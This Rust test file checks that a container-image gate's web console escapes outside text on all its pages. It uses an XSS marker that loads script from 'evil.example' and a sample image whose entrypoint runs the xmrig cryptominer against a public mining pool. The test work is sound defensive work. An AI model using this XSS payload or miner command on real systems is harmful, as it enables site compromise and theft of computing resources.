//! Names and texts that come from outside stay text, in every place where they are shown.
use super::{Browser, add_user, encoded, gate, page_of, pushed, with_file};
use crate::running::soon;
use reqwest::Method;
use serde_json::json;
use test_support::{ImageBuilder, Layer, LayerBuilder, standin, story};

const MARK: &str = "\"'><b onmouseover=alert(1)>\u{202e}\u{200b}&amp;<script src=//evil.example></script>";

/// Fails where a text of outside is anything but text.
fn check(page: &str, place: &str) {
    for part in
        ["<b onmouseover", "<script src=//evil", "\u{202e}", "\u{200b}", "\"'><b", "onmouseover=alert(1)>"]
    {
        assert!(!page.contains(part), "{place}: {part:?} in {page}");
    }
    let scripts: Vec<&str> =
        page.match_indices("<script").map(|(at, _)| &page[at..page.len().min(at + 80)]).collect();
    assert!(scripts.iter().all(|script| script.contains("src=\"/console/assets/")), "{place}: {scripts:?}");
    assert!(!page.contains(" style=") && !page.contains("javascript:"), "{place}: {page}");
}

#[test]
fn texts_of_an_image_and_of_people_stay_texts() {
    let folder = tempfile::tempdir().unwrap();
    let (gate, admin) = gate(folder.path(), "");
    add_user(&gate, &admin, "eve", true);
    let long = "A".repeat(10_000);
    let layer = |name: &str, bytes: Vec<u8>| Layer::new(LayerBuilder::new().file(name, 0o755, bytes).build());
    let _ = story::five_images();
    let miner = format!(
        "#!/bin/sh\n# {MARK}\nexec xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 4{} -p '{MARK}'\n",
        "A1b2C3d4E5f6G7h8J9k".repeat(5)
    );
    let image = ImageBuilder::new()
        .layer(layer("app/serve", miner.into_bytes()))
        .layer(layer(&format!("app/{}", MARK.replace('/', "_")), standin::program(MARK)))
        .layer(layer("app/long", standin::program(&long)))
        .config(|config| config.entrypoint(&["/app/serve", MARK, &long]))
        .build();
    pushed(&gate, &admin, "held/app", "1", &image);
    let (own, eve) = (Browser::of(&gate, "admin"), Browser::of(&gate, "eve"));
    let reason = format!("{MARK} and more of it");
    let about = |reason: &str| {
        [
            ("repository", "held/app".to_owned()),
            ("digest", image.digest().to_owned()),
            ("reason", reason.to_owned()),
        ]
    };
    let send = |browser: &Browser<'_>, path: &str, fields: &[(&str, String)]| {
        let fields: Vec<(&str, &str)> = fields.iter().map(|(name, value)| (*name, value.as_str())).collect();
        let answer = browser.send(path, &fields);
        assert_eq!(answer.status(), 303, "{path}");
        let page = browser.page(answer.headers()["location"].to_str().unwrap());
        check(&page, path);
    };
    send(&eve, "/console/image/approve", &about(&reason));
    send(&own, "/console/image/deny", &about(&reason));
    send(&own, "/console/image/deny", &about(&long));
    let scope = [
        ("rule", MARK.to_owned()),
        ("path", MARK.to_owned()),
        ("gap", MARK.to_owned()),
        ("content", image.digest().to_owned()),
        ("reason", reason.clone()),
        ("expires", soon()),
    ];
    send(&own, "/console/exceptions/ask", &scope);
    let taken = [("rule", "look".to_owned()), scope[3].clone(), scope[4].clone(), scope[5].clone()];
    send(&own, "/console/exceptions/ask", &taken);
    assert!(own.page("/console/exceptions").contains("waiting for a second person"));
    send(&own, "/console/accounts/users", &[("name", MARK.to_owned()), ("password", MARK.to_owned())]);
    send(&own, "/console/accounts/robots", &[("name", MARK.to_owned()), ("repositories", MARK.to_owned())]);
    send(&own, "/console/accounts/grants", &[("principal", MARK.to_owned()), ("actions", MARK.to_owned())]);
    send(&own, "/console/accounts/users/change", &[("name", "eve".to_owned()), ("change", MARK.to_owned())]);
    // A login that was refused stands in the journal with the name that somebody wrote.
    assert_eq!(Browser::new(&gate).log_in(MARK, &long, MARK).status(), 401);
    let marked = encoded(MARK);
    let compare = format!("/console/compare?old=held/app@{0}&new=held/app@{0}", image.digest());
    for path in [
        "/console?state=all".to_owned(),
        "/console/rows?state=denied".to_owned(),
        page_of("held/app", &image),
        page_of("held/app", &image).replace("/image?", "/image/standing?"),
        page_of("held/app", &image).replace("/image?", "/image/report.html?"),
        compare,
        format!("/console?repository={marked}"),
        format!("/console/search?q={marked}"),
        "/console/search?q=pool.supportxmr.com".to_owned(),
        format!("/console/exceptions?repository={marked}&digest={marked}"),
        "/console/journal".to_owned(),
        "/console/accounts".to_owned(),
        "/console/health".to_owned(),
    ] {
        let page = own.page(&path);
        if !path.contains("report.html") {
            check(&page, &path);
        }
        assert!(!page.contains("<script src=//evil"), "{path}");
    }
    for path in [
        format!("/console?state={marked}"),
        format!("/console?last={marked}"),
        format!("/console/image?repository={marked}&digest={marked}"),
        format!("/console/compare?old={marked}&new={marked}"),
        format!("/console/journal?after={marked}"),
        format!("/console/{marked}"),
    ] {
        let answer = own.get(&path);
        assert!([400, 404].contains(&answer.status().as_u16()), "{path}: {}", answer.status());
        check(&answer.text().unwrap(), &path);
    }
    let page = Browser::new(&gate).page(&format!("/console/login?next={marked}"));
    check(&page, "login");
    let page = own.page(&page_of("held/app", &image));
    assert!(
        page.contains("&#60;script src=//evil.example&#62;")
            || page.contains("&lt;script src=//evil.example&gt;"),
        "the attack is not on the page"
    );
    assert!(page.len() < 2_000_000, "{}", page.len());
}

#[test]
fn an_odd_query_is_answered_and_no_more() {
    let folder = tempfile::tempdir().unwrap();
    let (gate, admin) = gate(folder.path(), "");
    pushed(&gate, &admin, "held/app", "1", &with_file("app/serve", standin::program("x")));
    let browser = Browser::of(&gate, "admin");
    for path in [
        "/console?state=denied&state=released",
        "/console?repository=%ff%fe",
        "/console?last=@",
        "/console?last=held/app@sha256:00",
        "/console/journal?after=99999999999999999999",
        "/console/journal?after=-5",
        "/console/journal?after=9223372036854775807",
        "/console/search?q=%00",
        "/console/search?q=sha256:",
        "/console/search",
        "/console/compare",
        "/console/image",
        "/console//image",
        "/console/",
        "/console/image/",
    ] {
        let status = browser.get(path).status().as_u16();
        assert!([200, 400, 404].contains(&status), "{path}: {status}");
    }
    // A row of an exception that is odd is shown, and breaks no page.
    let fields = json!({ "scope": { "rule": "look", "content": format!("sha256:{}", "a".repeat(64)) }, "reason": format!("{MARK} odd"), "expires": format!("{}T00:00:00Z", soon()) });
    assert_eq!(gate.ask(Method::POST, "/api/v1/exceptions", &admin, Some(fields)).0, 201);
    check(&browser.page("/console/exceptions"), "exceptions");
}
